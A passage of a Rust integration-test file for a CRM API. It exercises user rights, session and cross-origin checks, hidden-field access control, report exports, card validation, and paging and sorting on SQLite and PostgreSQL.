//! The CRM API (issue 6) against the real binary, each test once on the embedded SQLite
//! and once on PostgreSQL (a private cluster from scripts/postgres.sh when
//! KOLOKOL_TEST_POSTGRES does not name one).

mod common;

use common::pg::{psql, PgDatabase};
use common::Server;
use serde_json::{json, Value};
use std::process::Command;

/// "удалить", percent-encoded for a query string.
const DELETE_WORD: &str = "%D1%83%D0%B4%D0%B0%D0%BB%D0%B8%D1%82%D1%8C";

/// Runs `test` on a fresh server over SQLite, then over PostgreSQL.
fn on_both_backends(test: impl Fn(&Server, &str)) {
    on_both_backends_with(&[], test)
}

/// [`on_both_backends`] with these KOLOKOL_* settings.
fn on_both_backends_with(settings: &[(&str, &str)], test: impl Fn(&Server, &str)) {
    {
        let server = Server::start(&[], settings);
        test(&server, "sqlite");
    }
    let db = PgDatabase::create();
    let url = db.url();
    let mut settings = settings.to_vec();
    settings.push(("KOLOKOL_DATABASE_URL", &url));
    let server = Server::start(&[], &settings);
    test(&server, "postgres");
    drop(server);
}

/// A client of /api/v1 with one identity (bearer token or session cookie).
struct Api<'a> {
    server: &'a Server,
    headers: Vec<(String, String)>,
}

impl<'a> Api<'a> {
    fn admin(server: &'a Server) -> Api<'a> {
        Api {
            server,
            headers: vec![(
                "Authorization".into(),
                format!("Bearer {}", server.admin_token()),
            )],
        }
    }

    /// Logs in over /api/v1/session and keeps the session cookie.
    fn login(server: &'a Server, login: &str, password: &str) -> Api<'a> {
        let (status, head, body) = server.http(
            "POST",
            "/api/v1/session",
            &[],
            &json!({"login": login, "password": password}).to_string(),
        );
        assert_eq!(status, 200, "{body}");
        Api {
            server,
            headers: vec![("Cookie".into(), session_cookie(&head))],
        }
    }

    fn with(&self, name: &str, value: &str) -> Api<'a> {
        let mut headers = self.headers.clone();
        headers.push((name.into(), value.into()));
        Api {
            server: self.server,
            headers,
        }
    }

    /// A request with any body; the answer's status, head and body.
    fn raw(&self, method: &str, path: &str, body: &[u8]) -> (u16, String, Vec<u8>) {
        let headers: Vec<(&str, &str)> = self
            .headers
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let (status, head, body) =
            common::http_bytes(self.server.http_port, method, path, &headers, body)
                .expect("HTTP request failed");
        let body = if head
            .to_ascii_lowercase()
            .contains("transfer-encoding: chunked")
        {
            dechunk(&body)
        } else {
            body
        };
        (status, head, body)
    }

    fn call(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let body = body.map(|b| b.to_string()).unwrap_or_default();
        let (status, _, bytes) = self.raw(method, path, body.as_bytes());
        let text = String::from_utf8_lossy(&bytes);
        let value = if text.is_empty() {
            Value::Null
        } else {
            serde_json::from_str(&text).unwrap_or(Value::String(text.into_owned()))
        };
        (status, value)
    }

    fn ok(&self, method: &str, path: &str, body: Option<Value>) -> Value {
        let (status, v) = self.call(method, path, body);
        assert!(
            (200..300).contains(&status),
            "{method} {path}: {status} {v}"
        );
        v
    }

    /// Asserts a problem+json with `status` naming `field`.
    fn fails(&self, method: &str, path: &str, body: Option<Value>, status: u16, field: &str) {
        let (got, v) = self.call(method, path, body);
        assert_eq!(got, status, "{method} {path}: {v}");
        assert_eq!(v["field"], field, "{method} {path}: {v}");
    }
}

/// A chunked body's data (a streamed answer, as a CSV export is); panics unless the last
/// chunk came, so a cut-off answer fails the test.
fn dechunk(mut body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let end = body
            .windows(2)
            .position(|w| w == b"\r\n")
            .expect("a chunk size line");
        let line = std::str::from_utf8(&body[..end]).unwrap();
        let size = usize::from_str_radix(line.split(';').next().unwrap().trim(), 16).unwrap();
        body = &body[end + 2..];
        if size == 0 {
            return out;
        }
        out.extend_from_slice(&body[..size]);
        assert_eq!(&body[size..size + 2], b"\r\n", "a chunk's end");
        body = &body[size + 2..];
    }
}

fn session_cookie(head: &str) -> String {
    let line = head
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie:"))
        .expect("a session cookie");
    let cookie = line.split_once(':').unwrap().1.trim();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"));
    cookie.split(';').next().unwrap().to_string()
}

fn create_user(admin: &Api, login: &str, rights: Value) -> i64 {
    let mut body =
        json!({"login": login, "name": format!("User {login}"), "password": "password-1"});
    for (k, v) in rights.as_object().unwrap() {
        body[k] = v.clone();
    }
    admin.ok("POST", "/api/v1/users", Some(body))["id"]
        .as_i64()
        .unwrap()
}

fn create_field(admin: &Api, spec: Value) -> i64 {
    admin.ok("POST", "/api/v1/fields", Some(spec))["id"]
        .as_i64()
        .unwrap()
}

#[test]
fn rights_sessions_and_confirmed_deletes() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text", "in_table": true}),
        );
        let plain = create_user(&admin, "plain", json!({}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "all", "members": ["plain"], "access": {"title": "edit"}})),
        );
        let user = Api::login(server, "plain", "password-1");
        // Without the contacts right: the table and cards, but no new partners.
        let (status, v) = user.call(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "ООО Ромашка"}})),
        );
        assert_eq!(status, 403, "{backend}: {v}");
        admin.ok(
            "PATCH",
            &format!("/api/v1/users/{plain}"),
            Some(json!({"contacts": true})),
        );
        let card = user.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "ООО Ромашка"}})),
        );
        assert_eq!(card["values"]["title"], "ООО Ромашка", "{backend}");
        // A user cannot grant themselves rights, only change their own name and password.
        let (status, _) = user.call(
            "PATCH",
            &format!("/api/v1/users/{plain}"),
            Some(json!({"admin": true})),
        );
        assert_eq!(status, 403, "{backend}");
        user.ok(
            "PATCH",
            &format!("/api/v1/users/{plain}"),
            Some(json!({"password": "password-2"})),
        );
        // Cookie-authenticated writes from another site are refused; same-origin pass.
        let (status, _) = user.with("Origin", "https://evil.example").call(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "x"}})),
        );
        assert_eq!(status, 403, "{backend}");
        let host = format!("http://127.0.0.1:{}", server.http_port);
        let (status, _) = user
            .with("Origin", &host)
            .with("Sec-Fetch-Site", "cross-site")
            .call(
                "POST",
                "/api/v1/partners",
                Some(json!({"values": {"title": "x"}})),
            );
        assert_eq!(status, 403, "{backend}");
        // Logging in again ends the session the browser held.
        let (status, head, _) = server.http(
            "POST",
            "/api/v1/session",
            &[("Cookie", &user.headers[0].1)],
            &json!({"login": "plain", "password": "password-2"}).to_string(),
        );
        assert_eq!(status, 200);
        let (status, _) = user.call("GET", "/api/v1/form", None);
        assert_eq!(status, 401, "{backend}: the old session still works");
        let renewed = Api {
            server,
            headers: vec![("Cookie".into(), session_cookie(&head))],
        };
        renewed.ok("GET", "/api/v1/form", None);
        // Deleting a user needs the confirmation word.
        admin.fails(
            "DELETE",
            &format!("/api/v1/users/{plain}"),
            None,
            422,
            "confirm",
        );
        admin.fails(
            "DELETE",
            &format!("/api/v1/users/{plain}?confirm=yes"),
            None,
            422,
            "confirm",
        );
        renewed.ok("GET", "/api/v1/form", None);
        admin.ok(
            "DELETE",
            &format!("/api/v1/users/{plain}?confirm={DELETE_WORD}"),
            None,
        );
        let (status, _) = renewed.call("GET", "/api/v1/form", None);
        assert_eq!(status, 401, "{backend}");
        // The API describes itself.
        let doc = Api {
            server,
            headers: vec![],
        }
        .ok("GET", "/api/v1/openapi.json", None);
        assert_eq!(doc["openapi"], "3.1.0");
        assert!(doc["paths"]["/api/v1/partners"]["post"]["requestBody"].is_object());
        // The card the user made stays.
        admin.ok("GET", &format!("/api/v1/partners/{}", card["id"]), None);
    });
}

#[test]
fn a_hidden_field_is_nowhere() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        let list = admin.ok(
            "POST",
            "/api/v1/lists",
            Some(json!({"name": "Статусы", "items": [{"name": "Новый"}, {"name": "Клиент"}]})),
        );
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text", "in_table": true, "required": true}),
        );
        create_field(
            &admin,
            json!({"name": "Телефон", "latin": "phone", "kind": "phone", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Статус", "latin": "status", "kind": "dropdown", "list_id": list["id"], "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Маржа", "latin": "margin", "kind": "text", "in_table": true}),
        );
        create_user(&admin, "op", json!({"contacts": true, "reports": true}));
        create_user(&admin, "nogroup", json!({"contacts": true}));
        // Two groups: the user gets the most permissive access of both.
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "view", "members": ["op"], "access": {"title": "view", "phone": "view", "status": "view"}})),
        );
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "edit", "members": ["op"], "access": {"title": "edit", "margin": "hidden"}})),
        );
        let card = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "Альфа", "phone": "8 495 123-45-67", "status": "Клиент", "margin": "секрет-42"}})),
        );
        let id = card["id"].as_i64().unwrap();
        admin.ok(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"margin": "секрет-43"}})),
        );
        let op = Api::login(server, "op", "password-1");
        // Card.
        let seen = op.ok("GET", &format!("/api/v1/partners/{id}"), None);
        assert!(seen["values"].get("margin").is_none(), "{backend}: {seen}");
        assert_eq!(seen["values"]["title"], "Альфа");
        assert_eq!(seen["values"]["phone"], "+74951234567");
        assert_eq!(seen["editable"], json!(["title"]));
        // Form.
        let form = op.ok("GET", "/api/v1/form", None);
        assert!(!form.to_string().contains("margin"), "{backend}: {form}");
        // Table, search, filter, sort.
        let table = op.ok("GET", "/api/v1/partners", None);
        assert_eq!(table["columns"], json!(["title", "phone", "status"]));
        assert!(!table.to_string().contains("секрет"), "{backend}: {table}");
        let found = op.ok(
            "GET",
            "/api/v1/partners?q=%D1%81%D0%B5%D0%BA%D1%80%D0%B5%D1%82",
            None,
        ); // "секрет"
        assert_eq!(
            found["rows"],
            json!([]),
            "{backend}: search finds by a hidden field"
        );
        let by_admin = admin.ok(
            "GET",
            "/api/v1/partners?q=%D1%81%D0%B5%D0%BA%D1%80%D0%B5%D1%82",
            None,
        );
        assert_eq!(by_admin["rows"].as_array().unwrap().len(), 1, "{backend}");
        op.fails(
            "GET",
            "/api/v1/partners?filter.margin=42",
            None,
            422,
            "values.margin",
        );
        op.fails(
            "GET",
            "/api/v1/partners?sort=margin",
            None,
            422,
            "values.margin",
        );
        // History.
        let history = op.ok("GET", &format!("/api/v1/partners/{id}/history"), None);
        assert!(
            !history.to_string().contains("секрет"),
            "{backend}: {history}"
        );
        assert!(
            history.to_string().contains("Альфа"),
            "{backend}: {history}"
        );
        let admin_history = admin.ok("GET", &format!("/api/v1/partners/{id}/history"), None);
        let change = admin_history
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["field"] == "margin" && h["old_value"] == "секрет-42")
            .expect("the change of margin in history");
        assert_eq!(change["new_value"], "секрет-43");
        // Reports: the partners report (every visible field, as JSON, CSV and a page to
        // print) and card dynamics leave the hidden field out; admins get it.
        let partners = op.ok("GET", "/api/v1/reports/partners", None);
        assert_eq!(
            partners["columns"],
            json!(["№", "Создана", "Название", "Телефон", "Статус"]),
            "{backend}"
        );
        assert!(
            !partners.to_string().contains("секрет"),
            "{backend}: {partners}"
        );
        assert_eq!(partners["rows"][0][2], "Альфа", "{backend}: {partners}");
        let found = op.ok(
            "GET",
            "/api/v1/reports/partners?q=%D1%81%D0%B5%D0%BA%D1%80%D0%B5%D1%82",
            None,
        );
        assert_eq!(
            found["rows"],
            json!([]),
            "{backend}: a report searched by a hidden field"
        );
        for format in ["csv", "html"] {
            let (status, _, body) = op.raw(
                "GET",
                &format!("/api/v1/reports/partners?format={format}"),
                b"",
            );
            let text = String::from_utf8(body).unwrap();
            assert_eq!(status, 200, "{backend}: {text}");
            assert!(
                text.contains("Альфа") && !text.contains("секрет"),
                "{backend}: {text}"
            );
            assert!(!text.contains("Маржа"), "{backend}: {text}");
        }
        let dynamics = op.ok("GET", "/api/v1/reports/card-dynamics", None);
        assert!(
            dynamics.to_string().contains("Альфа"),
            "{backend}: {dynamics}"
        );
        assert!(
            !dynamics.to_string().contains("секрет"),
            "{backend}: {dynamics}"
        );
        let all = admin.ok("GET", "/api/v1/reports/card-dynamics", None);
        assert!(all.to_string().contains("секрет-43"), "{backend}: {all}");
        // Writes: a hidden field is unknown, a viewed one read-only.
        op.fails(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"margin": "1"}})),
            422,
            "values.margin",
        );
        op.fails(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"phone": "84950000000"}})),
            422,
            "values.phone",
        );
        op.ok(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"title": "Альфа-2"}})),
        );
        // No group: no fields at all.
        let outsider = Api::login(server, "nogroup", "password-1");
        let seen = outsider.ok("GET", &format!("/api/v1/partners/{id}"), None);
        assert_eq!(seen["values"], json!({}), "{backend}");
        let table = outsider.ok("GET", "/api/v1/partners", None);
        assert_eq!(table["columns"], json!([]), "{backend}");
        // Reports need the reports right.
        let (status, problem) = outsider.call("GET", "/api/v1/reports/partners", None);
        assert_eq!(status, 403, "{backend}: {problem}");
    });
}

#[test]
fn reports_filter_download_and_print() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        let cities = admin.ok(
            "POST",
            "/api/v1/lists",
            Some(json!({"name": "Города", "items": [{"name": "Казань"}, {"name": "Омск"}]})),
        );
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Город", "latin": "city", "kind": "dropdown", "list_id": cities["id"]}),
        );
        create_field(
            &admin,
            json!({"name": "Оборот", "latin": "revenue", "kind": "number"}),
        );
        create_user(&admin, "head", json!({"reports": true, "tasks": true}));
        create_user(&admin, "clerk", json!({"contacts": true}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "all", "members": ["head", "clerk"], "access": {"title": "edit", "city": "edit", "revenue": "edit"}})),
        );
        let head = Api::login(server, "head", "password-1");
        let clerk = Api::login(server, "clerk", "password-1");
        let mut ids = Vec::new();
        for (title, city, revenue) in [
            ("<Альфа & Ко>", "Казань", 100),
            ("Бета", "Омск", 200),
            ("Гамма", "Казань", 300),
        ] {
            let card = admin.ok(
                "POST",
                "/api/v1/partners",
                Some(json!({"values": {"title": title, "city": city, "revenue": revenue}})),
            );
            ids.push(card["id"].as_i64().unwrap());
        }
        clerk.ok(
            "PATCH",
            &format!("/api/v1/partners/{}", ids[1]),
            Some(json!({"values": {"revenue": 250}})),
        );
        // The server reads days, and shows report times, in Moscow time (crm.time_zone's
        // default, UTC+3 all year).
        let moscow_now = chrono::Utc::now().naive_utc() + chrono::Duration::hours(3);
        let today = moscow_now.format("%Y-%m-%d").to_string();

        // Partners: every visible field (not only the table's), a field filter, the
        // creation period.
        let kazan = head.ok(
            "GET",
            &format!(
                "/api/v1/reports/partners?filter.city={}&created={today}..{today}&sort=revenue",
                enc("Казань")
            ),
            None,
        );
        assert_eq!(
            kazan["columns"],
            json!(["№", "Создана", "Название", "Город", "Оборот"]),
            "{backend}"
        );
        let rows: Vec<(Value, Value)> = kazan["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| (r[2].clone(), r[4].clone()))
            .collect();
        assert_eq!(
            rows,
            vec![
                (json!("<Альфа & Ко>"), json!(100)),
                (json!("Гамма"), json!(300))
            ],
            "{backend}: {kazan}"
        );
        let created = chrono::NaiveDateTime::parse_from_str(
            kazan["rows"][0][1].as_str().unwrap(),
            "%Y-%m-%d %H:%M",
        )
        .unwrap();
        assert!(
            (created - moscow_now).num_minutes().abs() <= 2,
            "{backend}: created {created}, Moscow now {moscow_now}"
        );
        let none = head.ok(
            "GET",
            "/api/v1/reports/partners?created=2001-01-01..2001-12-31",
            None,
        );
        assert_eq!(none["rows"], json!([]), "{backend}");
        head.fails(
            "GET",
            "/api/v1/reports/partners?created=вчера",
            None,
            422,
            "created",
        );

        // Card dynamics: by one user, within a period.
        let by_clerk = head.ok("GET", "/api/v1/reports/card-dynamics?user=clerk", None);
        let changes = by_clerk["rows"].as_array().unwrap();
        assert_eq!(changes.len(), 1, "{backend}: {by_clerk}");
        assert_eq!(changes[0][2], json!(ids[1]), "{backend}");
        assert_eq!(changes[0][4], "Оборот", "{backend}");
        assert_eq!(
            (changes[0][5].clone(), changes[0][6].clone()),
            (json!("200"), json!("250")),
            "{backend}: {by_clerk}"
        );
        let everyone = head.ok(
            "GET",
            &format!("/api/v1/reports/card-dynamics?period={today}"),
            None,
        );
        assert!(everyone["rows"].as_array().unwrap().len() > 1, "{backend}");
        let past = head.ok(
            "GET",
            "/api/v1/reports/card-dynamics?period=..2001-01-01",
            None,
        );
        assert_eq!(past["rows"], json!([]), "{backend}");
        head.fails(
            "GET",
            "/api/v1/reports/card-dynamics?user=nobody",
            None,
            422,
            "user",
        );
        head.fails(
            "GET",
            "/api/v1/reports/card-dynamics?colour=red",
            None,
            422,
            "colour",
        );

        // Events: due period, assignee, partner.
        let due = |days: i64| (chrono::Utc::now() + chrono::Duration::days(days)).to_rfc3339();
        for (what, days, assignee, partner) in [
            ("Позвонить", 1, "clerk", ids[0]),
            ("Встреча", 10, "clerk", ids[1]),
            ("Отчёт", 1, "head", ids[0]),
        ] {
            admin.ok(
                "POST",
                "/api/v1/events",
                Some(json!({"description": what, "at": due(days), "assignee": assignee, "partner_id": partner})),
            );
        }
        let tomorrow = (moscow_now + chrono::Duration::days(1)).format("%Y-%m-%d");
        let soon = head.ok(
            "GET",
            &format!("/api/v1/reports/events?due={today}..{tomorrow}&assignee=clerk"),
            None,
        );
        let described: Vec<&Value> = soon["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| &r[3])
            .collect();
        assert_eq!(described, vec!["Позвонить"], "{backend}: {soon}");
        let about = head.ok(
            "GET",
            &format!("/api/v1/reports/events?partner={}&created={today}", ids[0]),
            None,
        );
        assert_eq!(
            about["rows"].as_array().unwrap().len(),
            2,
            "{backend}: {about}"
        );
        head.fails(
            "GET",
            "/api/v1/reports/events?due=someday",
            None,
            422,
            "due",
        );

        // Tasks: search and per-column filters.
        for (title, status, priority) in [
            ("Обзвонить Казань", "todo", "high"),
            ("Сверить Омск", "in_progress", "low"),
        ] {
            let task = head.ok(
                "POST",
                "/api/v1/tasks",
                Some(json!({"title": title, "assignee": "clerk", "priority": priority, "due_on": "2026-12-01"})),
            );
            if status != "todo" {
                head.ok(
                    "PATCH",
                    &format!("/api/v1/tasks/{}", task["id"]),
                    Some(json!({"status": status})),
                );
            }
        }
        let found = head.ok(
            "GET",
            &format!("/api/v1/reports/tasks?q={}", enc("казань")),
            None,
        );
        let titles: Vec<&Value> = found["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| &r[1])
            .collect();
        assert_eq!(titles, vec!["Обзвонить Казань"], "{backend}: {found}");
        let working = head.ok(
            "GET",
            "/api/v1/reports/tasks?status=in_progress,question&due=2026-12-01",
            None,
        );
        let titles: Vec<&Value> = working["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| &r[1])
            .collect();
        assert_eq!(titles, vec!["Сверить Омск"], "{backend}: {working}");
        let later = head.ok("GET", "/api/v1/reports/tasks?due=2026-12-02..", None);
        assert_eq!(later["rows"], json!([]), "{backend}");
        head.fails(
            "GET",
            "/api/v1/reports/tasks?status=lost",
            None,
            422,
            "status",
        );

        // Download and print.
        let (status, head_lines, xlsx) = head.raw("GET", "/api/v1/reports/tasks?format=xlsx", b"");
        assert_eq!(status, 200);
        assert!(
            head_lines.to_lowercase().contains("spreadsheetml"),
            "{head_lines}"
        );
        assert_eq!(&xlsx[..2], b"PK", "an XLSX is a zip");
        let (status, _, csv) =
            head.raw("GET", "/api/v1/reports/partners?format=csv&sort=title", b"");
        assert_eq!(status, 200);
        let csv = String::from_utf8(csv).unwrap();
        let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines.len(), 4, "{backend}: {csv}");
        assert!(
            lines[0].starts_with("№,Создана,Название"),
            "{backend}: {csv}"
        );
        let (status, _, page) = head.raw("GET", "/api/v1/reports/partners?format=html", b"");
        assert_eq!(status, 200);
        let page = String::from_utf8(page).unwrap();
        assert!(
            page.contains("&lt;Альфа &amp; Ко&gt;"),
            "{backend}: escaped: {page}"
        );
        assert!(!page.contains("<Альфа"), "{backend}");
        head.fails(
            "GET",
            "/api/v1/reports/tasks?format=pdf",
            None,
            422,
            "format",
        );
        // Without the reports right: refused.
        let (status, _) = clerk.call("GET", "/api/v1/reports/tasks", None);
        assert_eq!(status, 403, "{backend}");
    });
}

#[test]
fn cards_are_validated_and_normalised() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        let list = admin.ok(
            "POST",
            "/api/v1/lists",
            Some(json!({"name": "Интересы", "items": [{"name": "Звонки"}, {"name": "CRM"}, {"name": "Отчёты"}]})),
        );
        for spec in [
            json!({"name": "Название", "latin": "title", "kind": "text", "required": true}),
            json!({"name": "Сотрудников", "latin": "staff", "kind": "number"}),
            json!({"name": "Договор", "latin": "signed", "kind": "date"}),
            json!({"name": "E-mail", "latin": "email", "kind": "email"}),
            json!({"name": "Телефон", "latin": "phone", "kind": "phone"}),
            json!({"name": "Интересы", "latin": "interests", "kind": "multi_select", "list_id": list["id"]}),
        ] {
            create_field(&admin, spec);
        }
        let p = "/api/v1/partners";
        admin.fails(
            "POST",
            p,
            Some(json!({"values": {"staff": 5}})),
            422,
            "values.title",
        );
        for (field, bad) in [
            ("staff", json!("много")),
            ("signed", json!("31.02.2026")),
            ("email", json!("ivan@")),
            ("phone", json!("12")),
            ("interests", json!(["Звонки", "Погода"])),
            ("nonexistent", json!("x")),
        ] {
            let mut values = json!({"title": "Бета"});
            values[field] = bad;
            admin.fails(
                "POST",
                p,
                Some(json!({ "values": values })),
                422,
                &format!("values.{field}"),
            );
        }
        admin.fails("POST", p, Some(json!({"values": "x"})), 422, "values");
        let table = admin.ok("GET", p, None);
        assert_eq!(
            table["rows"],
            json!([]),
            "{backend}: a rejected card was stored"
        );
        let card = admin.ok(
            "POST",
            p,
            Some(json!({"values": {"title": "Бета", "staff": "1 200,5", "signed": "24.11.2026", "email": "Ivan@Beta.RU", "phone": "+7 (812) 312-45-67", "interests": ["CRM", "Звонки", "CRM"]}})),
        );
        let v = &card["values"];
        assert_eq!(v["staff"], 1200.5, "{backend}: {card}");
        assert_eq!(v["signed"], "2026-11-24");
        assert_eq!(v["email"], "Ivan@beta.ru");
        assert_eq!(v["phone"], "+78123124567");
        assert_eq!(v["interests"], json!(["Звонки", "CRM"]));
        let id = card["id"].as_i64().unwrap();
        admin.fails(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"title": ""}})),
            422,
            "values.title",
        );
        let card = admin.ok(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"staff": 7, "interests": []}})),
        );
        assert_eq!(card["values"]["staff"], 7);
        assert_eq!(card["values"]["interests"], json!([]));
        let history = admin.ok("GET", &format!("/api/v1/partners/{id}/history"), None);
        let staff = history
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["field"] == "staff" && h["old_value"].is_string())
            .expect("staff change in history");
        assert_eq!(staff["old_value"], "1200.5");
        assert_eq!(staff["new_value"], "7");
        assert_eq!(staff["user_name"], "Boss");
        // A card is deleted only with the confirmation word.
        admin.fails(
            "DELETE",
            &format!("/api/v1/partners/{id}"),
            None,
            422,
            "confirm",
        );
        admin.ok(
            "DELETE",
            &format!("/api/v1/partners/{id}?confirm=delete"),
            None,
        );
        let (status, _) = admin.call("GET", &format!("/api/v1/partners/{id}"), None);
        assert_eq!(status, 404);
    });
}

#[test]
fn the_table_searches_filters_sorts_and_pages() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        let list = admin.ok(
            "POST",
            "/api/v1/lists",
            Some(json!({"name": "Этап", "items": [{"name": "Лид"}, {"name": "Сделка"}, {"name": "Архив", "hidden_by_default": true}]})),
        );
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Оборот", "latin": "revenue", "kind": "number", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "С", "latin": "since", "kind": "date", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Этап", "latin": "stage", "kind": "list", "list_id": list["id"], "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Телефон", "latin": "tel", "kind": "phone", "in_table": true}),
        );
        let stages = ["Лид", "Сделка", "Архив"];
        for i in 0..30 {
            let mut values = json!({
                "title": format!("Компания {i:02}"),
                "since": format!("2026-01-{:02}", i + 1),
                "stage": stages[i % 3],
                "tel": format!("8 (495) 123-45-{:02}", 60 + i),
            });
            // Every fifth has no revenue: NULLs sort last.
            if i % 5 != 0 {
                values["revenue"] = json!((i * 7) % 30);
            }
            admin.ok(
                "POST",
                "/api/v1/partners",
                Some(json!({ "values": values })),
            );
        }
        let titles = |page: &Value| -> Vec<String> {
            page["rows"]
                .as_array()
                .unwrap()
                .iter()
                .map(|r| r["values"]["title"].as_str().unwrap().to_string())
                .collect()
        };
        // Every row of the table, page by page.
        let every_page = |first: &str| -> Vec<Value> {
            let mut rows: Vec<Value> = Vec::new();
            let mut path = first.to_string();
            loop {
                let page = admin.ok("GET", &path, None);
                assert!(rows.len() < 100, "pages without end: {path}");
                rows.extend(page["rows"].as_array().unwrap().iter().cloned());
                match page["next"].as_str() {
                    Some(c) => path = format!("{first}&after={c}"),
                    None => return rows,
                }
            }
        };
        // "Архив" is hidden by default: 20 of 30.
        let seen = every_page("/api/v1/partners?sort=revenue&limit=7");
        assert_eq!(seen.len(), 20, "{backend}");
        assert!(seen.iter().all(|r| r["values"]["stage"] != "Архив"));
        let revenues: Vec<Option<f64>> = seen
            .iter()
            .map(|r| r["values"]["revenue"].as_f64())
            .collect();
        let first_null = revenues.iter().position(Option::is_none).unwrap();
        assert!(
            revenues[first_null..].iter().all(Option::is_none),
            "{backend}: NULLs last: {revenues:?}"
        );
        let known: Vec<f64> = revenues[..first_null].iter().map(|r| r.unwrap()).collect();
        assert!(
            known.windows(2).all(|w| w[0] <= w[1]),
            "{backend}: {known:?}"
        );
        let mut ids: Vec<i64> = seen.iter().map(|r| r["id"].as_i64().unwrap()).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 20, "{backend}: pages overlap");
        // Descending.
        let desc = admin.ok("GET", "/api/v1/partners?sort=-revenue&limit=3", None);
        let top: Vec<f64> = desc["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["values"]["revenue"].as_f64().unwrap())
            .collect();
        let highest: Vec<f64> = known.iter().rev().take(3).copied().collect();
        assert_eq!(top, highest, "{backend}");
        // Descending pages: values high to low, then the cards without one, newest first.
        let down = every_page("/api/v1/partners?sort=-revenue&limit=3");
        let down_revenues: Vec<Option<f64>> = down
            .iter()
            .map(|r| r["values"]["revenue"].as_f64())
            .collect();
        let mut expected_down: Vec<Option<f64>> = known.iter().rev().map(|r| Some(*r)).collect();
        expected_down.extend(std::iter::repeat_n(None, 20 - known.len()));
        assert_eq!(down_revenues, expected_down, "{backend}");
        let null_ids: Vec<i64> = down[known.len()..]
            .iter()
            .map(|r| r["id"].as_i64().unwrap())
            .collect();
        assert!(
            null_ids.windows(2).all(|w| w[0] > w[1]),
            "{backend}: {null_ids:?}"
        );
        // A list field sorts in the list's order, which the admin may change.
        let items = &list["items"];
        admin.ok(
            "PUT",
            &format!("/api/v1/lists/{}", list["id"]),
            Some(json!({"name": "Этап", "items": [
                {"id": items[0]["id"], "name": "Лид", "position": 2},
                {"id": items[1]["id"], "name": "Сделка", "position": 1},
                {"id": items[2]["id"], "name": "Архив", "position": 3, "hidden_by_default": true},
            ]})),
        );
        let stages_of = |rows: &[Value]| -> Vec<String> {
            rows.iter()
                .map(|r| r["values"]["stage"].as_str().unwrap().to_string())
                .collect()
        };
        let by_stage = every_page("/api/v1/partners?sort=stage&limit=3");
        let mut expected: Vec<String> = vec!["Сделка".into(); 10];
        expected.extend(vec!["Лид".to_string(); 10]);
        assert_eq!(stages_of(&by_stage), expected, "{backend}");
        let ids: Vec<i64> = by_stage[..10]
            .iter()
            .map(|r| r["id"].as_i64().unwrap())
            .collect();
        assert!(
            ids.windows(2).all(|w| w[0] < w[1]),
            "{backend}: by id within an item"
        );
        let by_stage_down = every_page("/api/v1/partners?sort=-stage&limit=4");
        expected.reverse();
        assert_eq!(stages_of(&by_stage_down), expected, "{backend}");
        // A filter on the list field shows hidden items when asked.
        let archived = admin.ok(
            "GET",
            "/api/v1/partners?filter.stage=%D0%90%D1%80%D1%85%D0%B8%D0%B2&limit=100",
            None,
        );
        assert_eq!(archived["rows"].as_array().unwrap().len(), 10, "{backend}");
        // Dates: a range, both ends inclusive; combined with a number range.
        let ranged = admin.ok(
            "GET",
            "/api/v1/partners?filter.since=2026-01-05..2026-01-14&filter.revenue=10..&sort=title&limit=100",
            None,
        );
        let expected: Vec<String> = (4..14)
            .filter(|i| i % 3 != 2 && i % 5 != 0 && (i * 7) % 30 >= 10)
            .map(|i| format!("Компания {i:02}"))
            .collect();
        assert_eq!(titles(&ranged), expected, "{backend}");
        // Search: any visible column, any case.
        let found = admin.ok(
            "GET",
            "/api/v1/partners?q=%D0%BA%D0%BE%D0%BC%D0%BF%D0%B0%D0%BD%D0%B8%D1%8F%2007",
            None,
